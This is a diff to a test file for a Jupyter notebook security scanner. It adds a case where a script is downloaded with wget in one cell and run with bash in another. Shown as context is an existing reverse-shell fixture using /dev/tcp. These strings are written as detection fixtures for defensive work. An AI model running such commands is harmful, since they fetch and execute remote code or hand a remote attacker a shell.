@@ -32,6 +32,11 @@ describe('scanNotebook', () => {
     expect(summary(findings)).toEqual(['python/download-to-shell critical notebook.ipynb!/cells/1']);
   });
 
+  it('a script downloaded in one cell and run in another', () => {
+    const { findings } = scanNotebookDoc(notebook([codeCell('!wget -q http://x.org/setup.sh -O /tmp/setup.sh\n'), codeCell('!bash /tmp/setup.sh\n')]));
+    expect(summary(findings)).toEqual(['python/download-to-shell critical notebook.ipynb!/cells/1']);
+  });
+
   it('a reverse shell in a %%bash cell', () => {
     const { findings } = scanNotebookDoc(notebook([codeCell('%%bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n')]));
     expect(summary(findings)).toEqual(['python/reverse-shell critical notebook.ipynb!/cells/0']);
